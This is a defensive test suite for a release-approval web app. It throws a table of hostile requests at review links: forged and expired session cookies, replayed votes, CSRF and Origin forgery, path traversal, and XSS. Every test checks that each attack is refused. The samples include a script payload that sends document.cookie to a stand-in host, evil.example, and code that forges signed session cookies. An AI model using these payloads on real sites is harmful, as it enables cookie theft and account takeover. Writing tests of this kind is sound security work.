import { SendTaskFailureCommand, SendTaskSuccessCommand } from '@aws-sdk/client-sfn';
import { serializeSigned } from 'hono/utils/cookie';
import { approvalDeps } from '../../../lambdas/domain/approvals/deps';
import { readApprovalRecord } from '../../../lambdas/domain/approvals/store';
import { encodeSession, sessionSecret, SESSION_COOKIE } from '../../../lambdas/domain/decisions/session';
import { app } from '../../../lambdas/http/app';
import { handler as requestApprovalHandler } from '../../../lambdas/steps/request-approval';
import type { Release } from '../../../lambdas/shared/release';
import { BrowserSession } from '../../helpers/sign-in';
import { freshProjectId, makePayload, makeRelease, SECRETS, useSignedInHarness } from '../approvals/harness';

/**
 * The review pages' attack surface as one table. Each row opens a fresh approval (the real request-approval
 * step, real DynamoDB via dynalite, Step Functions mocked), makes one hostile request against its review
 * link through the real hono app on loopback, signed in (or not) at the sandbox's GitLab OpenID provider,
 * and checks the status, that Step Functions heard nothing (no SendTaskSuccess / SendTaskFailure) and that
 * no vote beyond the legitimate ones was recorded.
 */

const suite = useSignedInHarness(app);
const { sfnMock } = suite;
let n = 100;

interface Opened {
  approvalId: string;
  /** The approval's one review link. */
  url: string;
  release: Release;
}

async function open(environment: string, overrides: Partial<Release> = {}): Promise<Opened> {
  const release = makeRelease((n += 1), freshProjectId(), overrides);
  const result = await requestApprovalHandler(makePayload(release, environment));
  return { approvalId: result.approvalId, url: `${suite.rig.url}/approvals/${result.approvalId}`, release };
}

async function get(url: string, headers: Record<string, string> = {}, method = 'GET') {
  const res = await fetch(url.startsWith('/') ? `${suite.rig.url}${url}` : url, {
    method,
    headers,
    redirect: 'manual',
  });
  return { status: res.status, body: await res.text() };
}

/** A browser signed in at the GitLab provider as `username` on approval `a`. */
async function signedIn(a: Opened, username: string): Promise<BrowserSession> {
  const browser = new BrowserSession();
  await browser.signIn(a.url, username);
  return browser;
}

/** Posts the review form from `browser` (its CSRF token included unless `fields` sets one). */
async function postFrom(
  browser: BrowserSession,
  a: Opened,
  fields: Record<string, string>,
  headers: Record<string, string> = {},
  contentType = 'application/x-www-form-urlencoded',
) {
  const page = await browser.request(a.url);
  const csrf = /name="csrf" value="([^"]*)"/.exec(page.html)?.[1] ?? '';
  const body = { csrf, ...fields };
  const res = await fetch(a.url, {
    method: 'POST',
    redirect: 'manual',
    headers: {
      'content-type': contentType,
      cookie: browser.cookieHeader(a.url),
      origin: suite.rig.url,
      ...headers,
    },
    body: contentType.includes('json') ? JSON.stringify(body) : new URLSearchParams(body).toString(),
  });
  return { status: res.status, body: await res.text() };
}

const postAs = async (
  a: Opened,
  username: string,
  fields: Record<string, string>,
  headers?: Record<string, string>,
  contentType?: string,
) => postFrom(await signedIn(a, username), a, fields, headers, contentType);
const approveAs = (a: Opened, username: string, headers?: Record<string, string>) =>
  postAs(a, username, { decision: 'approve', reason: 'ok' }, headers);

/** Replaces the approval's session cookie in `browser` with `value`. */
function setSession(browser: BrowserSession, a: Opened, value: string) {
  browser.setCookie(a.url, SESSION_COOKIE, value, `/approvals/${a.approvalId}`);
}
const sessionOf = (browser: BrowserSession, a: Opened) => browser.getCookie(a.url, SESSION_COOKIE)!.value;

interface Row {
  attack: string;
  environment: 'staging' | 'production';
  release?: Partial<Release>;
  /** Legitimate votes made first (approver names). */
  before?: string[];
  attempt: (a: Opened, other: () => Promise<Opened>) => Promise<{ status: number; body: string }>;
  status: number;
  /** Something the answer must say (or, for injection rows, must contain escaped). */
  says?: RegExp;
  /** Something the answer must never contain. */
  never?: RegExp;
}

const EVIL_TITLE =
  '"><svg onload=alert(1)><script>document.location="//evil.example/"+document.cookie</script>';

const CORPUS: Row[] = [
  // --- Link previews: GET/HEAD never decide ---
  {
    attack: 'Slack link preview (Slackbot GET)',
    environment: 'staging',
    attempt: (a) =>
      get(a.url, { 'user-agent': 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)' }),
    status: 200,
    says: /Sign in with GitLab to decide/,
  },
  {
    attack: 'Microsoft Teams / Outlook SafeLinks preview (HEAD)',
    environment: 'production',
    attempt: (a) =>
      get(
        a.url,
        { 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) SkypeUriPreview Preview/0.5 SafeLinks' },
        'HEAD',
      ),
    status: 200,
  },
  {
    attack: 'Facebook / Discord / Twitter unfurl bots (GET and HEAD)',
    environment: 'staging',
    attempt: async (a) => {
      await get(
        a.url,
        { 'user-agent': 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)' },
        'HEAD',
      );
      await get(a.url, { 'user-agent': 'Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)' });
      return get(a.url, { 'user-agent': 'Twitterbot/1.0' });
    },
    status: 200,
  },
  {
    attack: 'a bot that follows the form with GET ?decision=approve',
    environment: 'staging',
    attempt: (a) => get(`${a.url}?decision=approve`, { 'user-agent': 'facebookexternalhit/1.1' }),
    status: 200,
  },
  {
    attack: 'a bot that follows "Sign in with GitLab" (it reaches the sign-in page, nothing more)',
    environment: 'staging',
    attempt: (a) => get(`/auth/signin?gate=approval:${a.approvalId}`, { 'user-agent': 'Slackbot 1.0' }),
    status: 302,
  },
  // --- Replays ---
  {
    attack: 'replayed approval POST (same approver twice toward a quorum of two)',
    environment: 'production',
    before: ['alice'],
    attempt: (a) => approveAs(a, 'alice'),
    status: 409,
    says: /already voted &quot;approve&quot;.*each approver votes once/,
  },
  {
    attack: 'replayed approval with the decision flipped to reject',
    environment: 'production',
    before: ['alice'],
    attempt: (a) => postAs(a, 'alice', { decision: 'reject', reason: 'changed my mind (replayed)' }),
    status: 409,
    says: /already voted/,
  },
  // --- Sessions ---
  {
    attack: 'POST without signing in',
    environment: 'staging',
    attempt: (a) => postFrom(new BrowserSession(), a, { decision: 'approve' }),
    status: 401,
    says: /Nobody is signed in on this approval: nothing was recorded/,
  },
  {
    attack: 'forged session cookie (signature changed)',
    environment: 'staging',
    attempt: async (a) => {
      const browser = await signedIn(a, 'alice');
      const value = decodeURIComponent(sessionOf(browser, a));
      const dot = value.lastIndexOf('.');
      const sig = value.slice(dot + 1);
      setSession(
        browser,
        a,
        encodeURIComponent(`${value.slice(0, dot)}.${(sig[0] === 'A' ? 'B' : 'A') + sig.slice(1)}`),
      );
      return postFrom(browser, a, { decision: 'approve' });
    },
    status: 401,
    says: /sign-in cookie is not valid.*nothing was recorded/,
  },
  {
    attack: "session rewritten to another user (bob) under alice's signature",
    environment: 'production',
    attempt: async (a) => {
      const browser = await signedIn(a, 'alice');
      const value = decodeURIComponent(sessionOf(browser, a));
      const dot = value.lastIndexOf('.');
      const session = JSON.parse(Buffer.from(value.slice(0, dot), 'base64url').toString()) as {
        username: string;
      };
      session.username = 'bob';
      const forged = `${Buffer.from(JSON.stringify(session)).toString('base64url')}.${value.slice(dot + 1)}`;
      setSession(browser, a, encodeURIComponent(forged));
      return postFrom(browser, a, { decision: 'approve' });
    },
    status: 401,
    says: /not valid/,
  },
  {
    attack: 'expired session (correctly signed, past its 15 minutes)',
    environment: 'staging',
    attempt: async (a) => {
      const browser = await signedIn(a, 'alice');
      const now = Math.floor(Date.now() / 1000);
      const header = await serializeSigned(
        SESSION_COOKIE,
        encodeSession({
          sid: 'expired-session-id',
          username: 'alice',
          sub: '1001',
          gate: { kind: 'approval', id: a.approvalId },
          exp: now - 1,
        }),
        sessionSecret(SECRETS.linkSigningKey),
      );
      setSession(browser, a, header.split(';')[0].slice(SESSION_COOKIE.length + 1));
      return postFrom(browser, a, { decision: 'approve' });
    },
    status: 401,
    says: /Your sign-in expired at .*nothing was recorded/,
  },
  {
    attack: 'session cookie of another approval (signed in on B, sent to A)',
    environment: 'staging',
    attempt: async (a, other) => {
      const b = await other();
      const browser = await signedIn(b, 'alice');
      const fromB = sessionOf(browser, b);
      const page = await browser.request(b.url);
      const csrf = /name="csrf" value="([^"]*)"/.exec(page.html)?.[1] ?? '';
      setSession(browser, a, fromB);
      return postFrom(browser, a, { decision: 'approve', csrf });
    },
    status: 403,
    says: /Your sign-in is for approval apr_\w+, not approval apr_\w+: nothing was recorded/,
  },
  {
    attack: "CSRF token of another person's session",
    environment: 'staging',
    attempt: async (a) => {
      const bob = await signedIn(a, 'bob');
      const csrf = /name="csrf" value="([^"]*)"/.exec((await bob.request(a.url)).html)?.[1] ?? '';
      return postFrom(await signedIn(a, 'alice'), a, { decision: 'approve', csrf });
    },
    status: 403,
    says: /security token does not match your sign-in/,
  },
  {
    attack: 'form field naming another approver (username=bob) while signed in as dave',
    environment: 'production',
    attempt: (a) => postAs(a, 'dave', { decision: 'approve', username: 'bob', approver: 'bob' }),
    status: 403,
    says: /signed in with GitLab as @dave, who is not an approver/,
  },
  {
    attack: 'sign-in callback with a forged state and no sign-in in progress',
    environment: 'staging',
    attempt: () => get('/auth/callback?code=forged-code&state=forged-state'),
    status: 401,
    says: /This sign-in was not started here/,
  },
  {
    attack: 'sign-in started for a malformed gate',
    environment: 'staging',
    attempt: () => get('/auth/signin?gate=approval:..%2F..%2Fetc'),
    status: 400,
  },
  {
    attack: 'approval id with path traversal',
    environment: 'staging',
    attempt: (a) => get(`/approvals/..%2F..%2F${a.approvalId}`),
    status: 404,
  },
  // --- Self-approval ---
  {
    attack: 'self-approval by GitLab username (production forbids it)',
    environment: 'production',
    release: { triggeredBy: { username: 'alice', name: 'Alice A.' } },
    attempt: (a) => approveAs(a, 'alice'),
    status: 403,
    says: /does not allow approving one&#39;s own release/,
  },
  {
    attack: 'self-approval by e-mail in another case',
    environment: 'production',
    release: { triggeredBy: { username: 'robert', email: 'BOB@example.COM' } },
    attempt: (a) => approveAs(a, 'bob'),
    status: 403,
    says: /own release/,
  },
  // --- Request forgery ---
  {
    attack: 'cross-site form POST (Sec-Fetch-Site: cross-site)',
    environment: 'staging',
    attempt: (a) => approveAs(a, 'alice', { 'sec-fetch-site': 'cross-site' }),
    status: 403,
  },
  {
    attack: 'POST with a foreign Origin',
    environment: 'staging',
    attempt: (a) => approveAs(a, 'alice', { origin: 'https://evil.example' }),
    status: 403,
  },
  {
    attack: 'JSON POST (fetch from a script) instead of the form',
    environment: 'staging',
    attempt: (a) => postAs(a, 'alice', { decision: 'approve' }, {}, 'application/json'),
    status: 415,
  },
  {
    attack: 'unknown decision value',
    environment: 'staging',
    attempt: (a) => postAs(a, 'alice', { decision: 'approve ' }),
    status: 400,
  },
  // --- Injection: rendered escaped, never as markup ---
  {
    attack: 'script/SVG in the commit title, rendered on the review page',
    environment: 'staging',
    release: { commit: { sha: 'c0ffee'.repeat(6) + 'c0ff', title: EVIL_TITLE } },
    attempt: (a) => get(a.url),
    status: 200,
    says: /&lt;svg onload=alert\(1\)&gt;&lt;script&gt;/,
    never: /<svg|<script>document|onload=alert\(1\)>/,
  },
  {
    attack: 'old personal link carrying markup (/approvals/<id>/<script>)',
    environment: 'staging',
    attempt: (a) => get(`/approvals/${a.approvalId}/%3Cscript%3Ealert(1)%3C%2Fscript%3E?exp=1&sig=AAAA`),
    status: 303,
    never: /<script>alert/,
  },
];

describe('hostile approvals corpus: every variant answers its status and decides nothing', () => {
  it('has one row per attack', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(20);
    expect(new Set(CORPUS.map((r) => r.attack)).size).toBe(CORPUS.length);
  });

  it.each(CORPUS.map((row) => [row.attack, row] as const))('%s', async (_name, row) => {
    const a = await open(row.environment, row.release);
    for (const approver of row.before ?? []) expect((await approveAs(a, approver)).status).toBe(200);
    const votesBefore = (await readApprovalRecord(approvalDeps(), a.approvalId))?.votes;

    const answer = await row.attempt(a, () => open(row.environment));

    expect(answer.status).toBe(row.status);
    if (row.says) expect(answer.body).toMatch(row.says);
    if (row.never) expect(answer.body).not.toMatch(row.never);
    expect(sfnMock.commandCalls(SendTaskSuccessCommand)).toHaveLength(0);
    expect(sfnMock.commandCalls(SendTaskFailureCommand)).toHaveLength(0);
    const after = await readApprovalRecord(approvalDeps(), a.approvalId);
    expect(after?.votes).toEqual(votesBefore);
    expect(after?.status).toBe('OPEN');
    expect(Object.keys(after?.votes ?? {})).toEqual(row.before ?? []);
  });

  it('a reason carrying markup is shown escaped after a real vote (the one row that decides)', async () => {
    const a = await open('staging');
    const res = await postAs(a, 'alice', {
      decision: 'reject',
      reason: '</textarea><img src=x onerror=alert(document.domain)><script>steal()</script>',
    });
    expect(res.status).toBe(200);
    expect(res.body).not.toMatch(/<img src=x|<script>steal/);
    expect(res.body).toContain('&lt;/textarea&gt;&lt;img src=x onerror=alert(document.domain)&gt;');
    // The rejection reaches Step Functions as data, with the reason in the cause.
    const failure = sfnMock.commandCalls(SendTaskFailureCommand);
    expect(failure).toHaveLength(1);
    expect(failure[0].args[0].input.cause).toContain('<script>steal()</script>');
  });
});
